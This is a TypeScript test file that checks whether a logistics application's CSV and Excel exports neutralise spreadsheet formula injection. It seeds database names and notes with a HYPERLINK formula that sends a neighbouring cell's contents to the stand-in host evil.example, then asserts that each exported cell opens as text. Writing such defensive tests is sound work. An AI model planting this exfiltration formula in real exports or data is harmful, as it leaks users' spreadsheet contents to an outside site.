import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import { describeOnEachDatabase } from '../../test/harness.ts';
import { insertBackload, insertBackloadLines } from '../cargo/backloads.repository.ts';
import { insertDiscrepancy } from '../cargo/discrepancies.repository.ts';

/**
 * CSV injection (issue 21 #2, OWASP): every file the server writes opens a text cell that begins like a formula
 * as text. The names the files show (rigs, vendors, items, voyages, requests, notes, backload lines) are set to
 * a formula that would send the next cell to another site.
 */
const EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Open")';
/** The fields of a CSV file (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function csvFields(body: string): string[] {
  const fields: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g;
  const text = body.replace(/^\uFEFF/, '');
  for (const match of text.matchAll(pattern)) {
    if (match.index === text.length) break;
    fields.push(match[1] === undefined ? (match[2] ?? '') : match[1].replace(/""/g, '"'));
  }
  return fields;
}

function expectFormulasNeutralised(body: string): void {
  const fields = csvFields(body);
  const shown = fields.filter((field) => field.includes(EVIL));
  expect(shown.length, 'the export shows the formula text').toBeGreaterThan(0);
  // Each such cell opens as text: an apostrophe first. (A formula inside a longer text, "Journey 2 · =…", is text.)
  for (const field of fields) expect(field, body.slice(0, 400)).not.toMatch(/^[=+\-@\t\r]/);
  for (const field of shown) if (!field.startsWith('Journey')) expect(field).toMatch(/^'[=+@]/);
  // And is quoted, as OWASP advises.
  expect(body).toContain(`"'${EVIL.replace(/"/g, '""')}`);
}

describeOnEachDatabase('formula cells in every export (CSV injection)', (harness) => {
  let voyageId = 0;

  it('makes the names the exports show begin with a formula', async () => {
    const db = harness.db;
    for (const table of ['rigs', 'vendors', 'items', 'voyages', 'requests'] as const) {
      const column = table === 'requests' ? 'title' : 'name';
      const rows = await db.selectFrom(table).select('id').execute();
      for (const row of rows) {
        await db
          .updateTable(table)
          .set({ [column]: `${EVIL} ${row.id}` })
          .where('id', '=', row.id)
          .execute();
      }
    }
    const order = await db
      .selectFrom('orders')
      .innerJoin('requests', 'requests.id', 'orders.request_id')
      .select(['orders.id', 'orders.request_id', 'orders.quantity', 'requests.rig_id', 'requests.vendor_id'])
      .where('orders.shipment_id', 'is not', null)
      .executeTakeFirstOrThrow();
    const admin = await db.selectFrom('users').select('id').executeTakeFirstOrThrow();
    const now = new Date().toISOString();
    await insertDiscrepancy(db, {
      order_id: order.id,
      request_id: order.request_id,
      rig_id: order.rig_id,
      vendor_id: order.vendor_id,
      ordered_quantity: order.quantity,
      received_quantity: 0,
      damaged_quantity: 0,
      note: `+${EVIL}`,
      status: 'OPEN',
      created_by: admin.id,
      created_at: now,
    });
    const journey = await db
      .selectFrom('journeys')
      .select(['id', 'voyage_id', 'rig_id'])
      .executeTakeFirstOrThrow();
    voyageId = journey.voyage_id;
    const backloadId = await insertBackload(db, {
      voyage_id: journey.voyage_id,
      journey_id: journey.id,
      rig_id: journey.rig_id,
      status: 'BOOKED',
      created_by: admin.id,
      created_at: now,
    });
    await insertBackloadLines(db, [
      {
        backload_id: backloadId,
        position: 1,
        description: `@${EVIL}`,
        category: 'OTHER',
        quantity: 1,
        unit: 'count',
        weight_kg: 10,
        length_m: 1,
        width_m: 1,
        height_m: 1,
        vendor_id: order.vendor_id,
      },
    ]);
  });

  const exports: Array<[title: string, role: Parameters<typeof harness.tokenFor>[0], url: string]> = [
    ['requests', 'rig_logistics', '/api/request/get'],
    ['orders', 'rig_logistics', '/api/order/get'],
    ['items', 'supplier', '/api/vendor/item/get'],
    ['shipments', 'base_coordinator', '/api/shipment/list'],
    ['voyages', 'base_coordinator', '/api/voyage/get'],
    ['discrepancies', 'rig_logistics', '/api/discrepancy/list'],
    ['backload', 'base_coordinator', '/api/backload/list'],
  ];
  for (const [title, role, url] of exports) {
    it(`writes the ${title} CSV with every formula cell as text`, async () => {
      const response = await harness.get(url, {
        token: await harness.tokenFor(role),
        query: { format: 'csv' },
      });
      expect(response.statusCode, response.body).toBe(200);
      expectFormulasNeutralised(response.body);
    });
  }

  it('writes the manifest CSV with every formula cell as text', async () => {
    const token = await harness.tokenFor('base_coordinator');
    const response = await harness.get(`/api/voyage/manifest/${voyageId}`, {
      token,
      query: { format: 'csv' },
    });
    expect(response.statusCode, response.body).toBe(200);
    expectFormulasNeutralised(response.body);
  });

  it('writes a formula-like name into a workbook as a text cell, never a formula', async () => {
    const token = await harness.tokenFor('rig_logistics');
    const lists = [
      await harness.get('/api/request/get', { token, query: { format: 'xlsx' } }),
      await harness.get(`/api/voyage/manifest/${voyageId}`, {
        token: await harness.tokenFor('base_coordinator'),
        query: { format: 'xlsx' },
      }),
    ];
    for (const response of lists) {
      expect(response.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      let texts = 0;
      workbook.worksheets[0]!.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (String(cell.value).startsWith('=HYPERLINK')) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            texts += 1;
          }
        });
      });
      expect(texts).toBeGreaterThan(0);
    }
  });
});
